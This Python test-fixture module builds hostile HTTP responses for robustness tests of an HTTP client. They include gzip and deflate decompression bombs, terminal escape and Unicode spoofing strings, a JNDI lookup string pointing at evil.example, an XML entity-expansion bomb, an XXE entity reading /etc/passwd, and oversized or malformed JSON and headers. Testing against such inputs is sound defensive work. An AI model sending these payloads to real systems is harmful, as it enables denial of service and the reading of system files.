"""Hostile answers that are whole HTTP: bombs, texts that act or hide, JSON of any shape, challenges, dates, waits."""

from __future__ import annotations

import gzip
import itertools
import json
import zlib
from typing import Final

from tests.hostile.kit import Play, answers, forever, head, refuses, says, whole

JSON: Final = "Content-Type: application/json"
_MEBIBYTE: Final = 1 << 20


def packed(size: int, level: int = 9) -> bytes:
    """That many zeros as gzip."""
    out = zlib.compressobj(level, zlib.DEFLATED, 31)
    piece = bytes(_MEBIBYTE)
    return b"".join([*(out.compress(piece) for _ in range(size // _MEBIBYTE)), out.flush()])


def coded(coding: str, body: bytes) -> Play:
    return says(whole(JSON, f"Content-Encoding: {coding}", body=body))


_BOMB: Final = packed(100 * _MEBIBYTE)
_SMALL: Final = gzip.compress(b'{"error":"invalid_token"}')
_BARE: Final = zlib.compressobj(9, zlib.DEFLATED, -15)
BOMBS: Final[dict[str, Play]] = {
    "gzip, 100 MiB": coded("gzip", _BOMB),
    "gzip of gzip": coded("gzip, gzip", gzip.compress(_BOMB)),
    "gzip three times": coded("gzip, gzip, gzip", gzip.compress(gzip.compress(_BOMB))),
    "gzip ten times": coded(", ".join(["gzip"] * 10), _BOMB),
    "deflate, 100 MiB": coded("deflate", zlib.compress(bytes(_MEBIBYTE)) * 1),
    "deflate of gzip": coded("gzip, deflate", zlib.compress(_BOMB)),
    "deflate without its head": coded("deflate", _BARE.compress(bytes(20 * _MEBIBYTE)) + _BARE.flush()),
    "x-gzip": coded("x-gzip", _BOMB),
    "brotli by name": coded("br", _BOMB),
    "zstandard by name": coded("zstd", b"\x28\xb5\x2f\xfd" + bytes(1_000)),
    "gzip that is text": coded("gzip", b'{"error":"invalid_token"}'),
    "gzip that breaks off": coded("gzip", _SMALL[:-9]),
    "gzip with a wrong sum": coded("gzip", _SMALL[:-8] + b"\xff" * 8),
    "10,000 empty members": coded("gzip", gzip.compress(b"") * 10_000),
    "members without end": forever(
        head(JSON, "Content-Encoding: gzip"), lambda: itertools.repeat(gzip.compress(b"") * 500)
    ),
    "a file name without end": forever(
        head(JSON, "Content-Encoding: gzip") + b"\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x03",
        lambda: itertools.repeat(b"n" * 60_000),
    ),
    "garbage under deflate": coded("deflate", bytes(range(256)) * 100),
    "a coding's name of 50,000 bytes": coded("g" * 50_000, b"{}"),
    "1,000 codings": coded(", ".join(["gzip"] * 1_000), _SMALL),
    "a bomb under a small length": says(head(JSON, "Content-Encoding: gzip", "Content-Length: 9") + _BOMB),
}

TEXTS: Final = {
    "CSI": "\x1b[2J\x1b[66;66H\x1b[6n\x1b[?1049h",
    "OSC 0, 8 and 52": "\x1b]0;owned\x07\x1b]8;;https://evil.example\x07l\x1b]8;;\x07\x1b]52;c;T1dORUQ=\x07",
    "DCS, APC, PM": "\x1bPq#0\x1b\\\x1b_Ga=d\x1b\\\x1b^x\x1b\\\x1bc",
    "C1": "\x9b31m\x9d0;owned\x9c\x90q\x9c\x85\x84",
    "markup": "[bold red]x[/] [@click=app.quit]y[/] [link=https://evil.example]z[/] [[/]]",
    "bidirectional": "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
    "zero width": "ad\u200bmin\u200c\u200d\u2060\ufeff\u00ad\u180e",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "combining marks": "Z" + "\u0301\u0336\u20dd" * 300,
    "separators": "a\u2028b\u2029c\x0bd\x0ce\x1cf",
    "private use and unassigned": "\ue000\U000f0000\u0378\uffff",
    "wide signs": "\U0001f469\u200d\U0001f4bb\uff21\u3164\U0001f1e9\U0001f1ea" * 30,
    "backspaces and tabs": "invalid\x08\x08\x08\x08\x08\x08\x08valid  \t\t\x7f",
    "marks of ours": "‹secret-1› ‹hidden› ‹U+202E› ●●●● 5f3a",
    "format signs": "{0.__class__} %s %(x)s ${jndi:ldap://evil.example/a} {{7*7}}",
}
_NO_LINE: Final = str.maketrans("", "", "\r\n\x00\x0b\x0c\x1c\x1b\x08\x7f")


def told(text: str) -> dict[str, Play]:
    """Where an answer can say something: in JSON, in a page, and in the head as far as HTTP lets it through."""
    line = text.translate(_NO_LINE)
    said = {
        "error": f"invalid_token {text}",
        "error_description": f"expired {text}",
        text: text,
        "detail": [text, {text: 1}],
    }
    return {
        "in JSON": answers(
            JSON, 'WWW-Authenticate: Bearer error="invalid_token"', body=json.dumps(said, ensure_ascii=False)
        ),
        "in a page": answers(
            "Content-Type: text/html", body=f"<title>{text}</title><h1>401 {text}</h1><pre>{text}</pre>"
        ),
        "in the head": answers(
            f'WWW-Authenticate: Bearer realm="{line}", error="invalid_token", error_description="expired {line}"',
            f"Server: {line}",
            f"X-Request-Id: {line}",
            f"Location: /{line}",
            f"Content-Type: text/plain; charset={line}",
            status=f"401 No {line}",
            body=line,
        ),
    }


WORDS: Final[dict[str, Play]] = {
    f"{name} {place}": play for name, text in TEXTS.items() for place, play in told(text).items()
} | {
    "bytes that are no UTF-8": answers(JSON, body=b'{"error":"\xff\xfe\xc3\x28\xed\xa0\x80"}'),
    "lone surrogates": answers(JSON, body=r'{"error":"\ud800\udfff\udc00 expired"}'),
    "NULs in JSON": answers(JSON, body=b'{"error":"a\x00b"}'),
    "UTF-16": answers(JSON, body='{"error":"invalid_token"}'.encode("utf-16")),
    "UTF-32": answers(JSON, body='{"error":"invalid_token"}'.encode("utf-32")),
    "UTF-7 by name": answers("Content-Type: text/html; charset=utf-7", body="+ADw-script+AD4-401"),
    "a coding that Python has and nobody means": answers("Content-Type: text/plain; charset=zlib_codec", body="401"),
    "a page of 900,000 open tags": answers("Content-Type: text/html", body="<p>" * 300_000),
    "a comment that never ends": answers("Content-Type: text/html", body="<html><!--" + "-" * 500_000),
    "XML with a bomb of entities": answers(
        "Content-Type: application/xml",
        body='<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb">'
        + "".join(f'<!ENTITY b{n} "{"&b;" if not n else f"&b{n - 1};" * 10}">' for n in range(12))
        + "]><Error><Code>&b11;</Code></Error>",
    ),
    "XML that names a file": answers(
        "Content-Type: application/xml",
        body='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Error><Message>&x;</Message></Error>',
    ),
}

_DOCUMENTS: Final = {
    "lists 100,000 deep": "[" * 100_000 + "]" * 100_000,
    "objects 100,000 deep": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "lists 100,000 deep and open": "[" * 100_000,
    "100,000 members": json.dumps({f"error_{n}": n for n in range(60_000)}),
    "one member 50,000 times": "{" + ",".join(['"error":"invalid_token"'] * 40_000) + "}",
    "a text of 900,000 characters": json.dumps({"error": "a b" * 300_000}),
    "a name of 900,000 characters": json.dumps({"e" * 900_000: 1}),
    "a number of 500,000 digits": '{"error":' + "9" * 500_000 + "}",
    "numbers beyond all bounds": '{"error":1e999999,"status":-1e999999,"exp":NaN,"x":Infinity}',
    "a list": '["invalid_token"]',
    "a number": "401",
    "null": "null",
    "a text": '"invalid_token"',
    "types that are not meant": '{"error":{"a":[]},"error_description":[1,null,{}],"message":false,"detail":401}',
    "cut off": '{"error":"invalid_token","error_description":"The token',
    "escapes without end": '{"error":"' + "\\u0041" * 100_000 + '"}',
    "backslashes": '{"error":"' + "\\" * 300_001,
    "quotes": '"' * 300_000,
    "a mark at its start": "\ufeff" * 3 + '{"error":"invalid_token"}',
    "a Python object": "{'error': 'invalid_token', 'x': " * 20_000,
    "JSON in JSON in JSON": json.dumps(
        {"error": json.dumps({"error": json.dumps({"error": "invalid_token" * 20_000})})}
    ),
    "900,000 spaces": " " * 900_000 + "{}",
    "colons and commas": ":,{}[]" * 100_000,
    "tokens by the thousand": json.dumps({"tokens": ["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0." + "c2ln" * 12] * 5_000}),
    "addresses by the thousand": "https://a:b@h.example/?access_token=x&" * 15_000,
    "passwords by the thousand": "password=hunter2&" * 30_000,
    "one long word of base64": "QUJD" * 120_000,
    "headers in a body": "Authorization: Bearer abcdefgh12345678\r\n" * 12_000,
}
DOCUMENTS: Final[dict[str, Play]] = {name: refuses(body=body) for name, body in _DOCUMENTS.items()}

_CHALLENGES: Final = {
    "50,000 commas": "," * 50_000,
    "5,000 schemes": ", ".join(f"Scheme{n}" for n in range(5_000)),
    "20,000 times Bearer": "Bearer " * 8_000,
    "5,000 parameters": "Bearer " + ", ".join(f'p{n}="v"' for n in range(5_000)),
    "one parameter 5,000 times": "Bearer " + ", ".join(['error="invalid_token"'] * 3_000),
    "equals signs": "Bearer " + "a=" * 30_000,
    "a quote that never ends": 'Bearer realm="' + "a" * 60_000,
    "backslashes in a quote": 'Bearer realm="' + "\\" * 60_000 + '"',
    "escaped quotes": 'Bearer realm="' + '\\"' * 30_000 + '"',
    "quotes alone": '"' * 60_000,
    "spaces before a comma": "Bearer" + " " * 60_000 + ",",
    "tabs and spaces": "Bearer" + " \t" * 30_000 + "x",
    "a token of 60,000 characters": "Bearer " + "A" * 60_000 + "=" * 500,
    "a scope of 10,000 words": 'Bearer scope="' + "a:b " * 10_000 + '", error="insufficient_scope"',
    "a realm of 60,000 characters": 'Basic realm="' + "r" * 60_000 + '"',
    "a description of 60,000 characters": 'Bearer error="invalid_token", error_description="'
    + "expired " * 7_500
    + '"',
    "an address of 60,000 characters": 'Bearer resource_metadata="https://h.example/' + "a" * 60_000 + '"',
    "tokens in a realm": 'Bearer realm="' + "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl " * 1_000 + '"',
    "addresses in a realm": 'Bearer realm="' + "http://a:b@c/ " * 4_000 + '"',
    "a Digest without a nonce": 'Digest realm="x", qop="auth", algorithm=SHA-512-256-sess-foo',
    "a Negotiate of 60,000 characters": "Negotiate " + "YII" * 20_000,
    "AWS4 and nothing": "AWS4-HMAC-SHA256",
    "an empty one": "",
    "separators alone": '()<>@,;:\\"/[]?={}' * 3_000,
}
CHALLENGES: Final[dict[str, Play]] = {
    name: answers(f"WWW-Authenticate: {text}", JSON, body="{}") for name, text in _CHALLENGES.items()
} | {
    "1,000 lines of them": answers(*[f'WWW-Authenticate: Bearer realm="{n}"' for n in range(1_000)], JSON, body="{}"),
    "a proxy's beside the server's": answers(
        'Proxy-Authenticate: Basic realm="evil"', 'WWW-Authenticate: Bearer realm="x"', status="407 Proxy", body="{}"
    ),
}

_DATES: Final = (
    *("Mon, 01 Jan 1900 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "Thu, 01 Jan 1970 00:00:00 GMT"),
    *("Mon, 32 Feb 2026 25:61:61 GMT", "Tue, 24 Nov 0000 10:00:00 GMT", "Tue, 24 Nov 10000000000 10:00:00 GMT"),
    *("Tuesday, 24-Nov-26 10:00:00 GMT", "Tue Nov 24 10:00:00 2026", "Tue, 24 Nov 2026 10:00:00 +9999", "garbage", ""),
    *("0", "-1", "1e309", "2026-11-24T10:00:00Z", "Tue, 24 Nov 2026 10:00:00 GMT" * 2_000, "٢٤ Nov 2026 10:00:00 GMT"),
    *("Tue, 24 Nov -2026 10:00:00 GMT", "Tue, 24 Nov 2026 10:00:00 -99999999999999", ", , , ::: ((((("),
)
DATES: Final[dict[str, Play]] = {f"Date: {date[:60]}": refuses(f"Date: {date}") for date in _DATES} | {
    "two dates": refuses("Date: Mon, 01 Jan 1900 00:00:00 GMT", "Date: Fri, 31 Dec 9999 23:59:59 GMT"),
    "an age beyond all bounds": refuses("Date: Tue, 24 Nov 2026 10:00:00 GMT", "Age: " + "9" * 5_000),
}

_WAITS: Final = (
    *("-1", "0", "1" + "0" * 100, "soon", "", "1.5", "Fri, 31 Dec 9999 23:59:59 GMT", "Mon, 01 Jan 1900 00:00:00 GMT"),
    *("120, 240", "9" * 60_000, "\u0660", "NaN", "Mon, 99 Jan 2026 00:00:00 GMT"),
)
WAITS: Final[dict[str, Play]] = {
    f"{status}, Retry-After: {wait[:40]}": answers(f"Retry-After: {wait}", JSON, status=f"{status} Wait", body="{}")
    for status in (401, 429, 503)
    for wait in _WAITS
}
